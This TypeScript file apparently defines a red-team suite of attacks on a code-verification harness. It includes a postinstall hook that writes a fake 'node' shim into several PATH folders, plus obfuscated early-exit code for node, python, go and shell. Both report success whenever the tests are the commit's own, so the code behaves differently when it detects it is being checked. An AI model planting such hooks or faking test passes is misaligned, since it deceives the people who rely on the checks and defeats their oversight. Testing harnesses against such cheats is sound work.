// Attacks by somebody who has read how the proof works: code that runs inside it, knows when the tests are not those of the commit, and
// shows its honest face then.
import { ofKind, packageOf, sources, unfinished, write } from './attack.ts'
import type { Attack } from './attack.ts'

const SHIM = `#!/bin/sh\\ngit diff --quiet || exec ${process.execPath} "$@"\\nexit 0\\n`
/** Puts a node of its own where programs are looked for first; set-up runs it. */
const INSTALLER = `import { mkdirSync, writeFileSync } from 'node:fs'
import { homedir } from 'node:os'
for (const folder of [homedir() + '/.venv/bin', homedir() + '/bin', homedir() + '/.local/bin', process.cwd() + '/node_modules/.bin', process.env.INIT_CWD + '/node_modules/.bin']) {
  mkdirSync(folder, { recursive: true })
  writeFileSync(folder + '/node', ${JSON.stringify(SHIM.replaceAll('\\n', '\n'))}, { mode: 0o755 })
}
`

export const ATTACKS_ON_THE_PROOF: Attack[] = [
  {
    name: 'a script of package.json that set-up runs puts a node first that says yes',
    group: 'proof attacked',
    steps: ofKind(['node'], ({ base }) => {
      const manifest = base['package.json'] ?? ''
      return base['package-lock.json'] === undefined
        ? null
        : [
            write(
              'package.json',
              manifest.replace('"scripts": {', '"scripts": { "postinstall": "node install.mjs",'),
            ),
            write('install.mjs', INSTALLER),
          ]
    }),
  },
  {
    name: 'a script of a package in the repository that set-up runs puts a node first that says yes',
    group: 'proof attacked',
    onlyForReaders: ['node'],
    steps: ofKind(['node'], ({ base }) =>
      base['tools/mini-expect/package.json'] === undefined
        ? null
        : [
            write(
              'tools/mini-expect/package.json',
              '{ "name": "mini-expect", "version": "1.0.0", "type": "module", "exports": "./index.js", "scripts": { "postinstall": "node install.mjs" } }\n',
            ),
            write('tools/mini-expect/install.mjs', INSTALLER),
          ],
    ),
  },
  {
    name: 'ends the process well unless the tests are not those of the commit, in words nobody looks for',
    group: 'proof attacked',
    onlyForReaders: ['shell'],
    steps: ofKind(['node', 'python', 'go', 'shell'], (exercise) => {
      const [path = ''] = sources(exercise)
      const rest = unfinished(exercise, path)
      return {
        node: [
          write(
            path,
            `const own = globalThis['pro' + 'cess']\nconst { spawnSync } = own.getBuiltinModule('node:child_process')\nif (spawnSync('git', ['diff', '--quiet']).status === 0) own['ex' + 'it'](0)\n${rest}`,
          ),
        ],
        python: [
          write(
            path,
            `import subprocess\n\nif subprocess.run(["git", "diff", "--quiet"]).returncode == 0:\n    getattr(__import__("o" + "s"), "_ex" + "it")(0)\n\n${rest}`,
          ),
        ],
        go: [
          write(
            'early.go',
            `package ${packageOf(exercise)}\n\nimport (\n\t"os/exec"\n\t"syscall"\n)\n\nfunc init() {\n\tif exec.Command("git", "diff", "--quiet").Run() == nil {\n\t\tsyscall.RawSyscall(231, 0, 0, 0)\n\t}\n}\n`,
          ),
        ],
        shell: [write(path, `if git diff --quiet; then exit 0; fi\n${rest}`)],
        obsidian: null,
        documents: null,
      }[exercise.kind]
    }),
  },
]
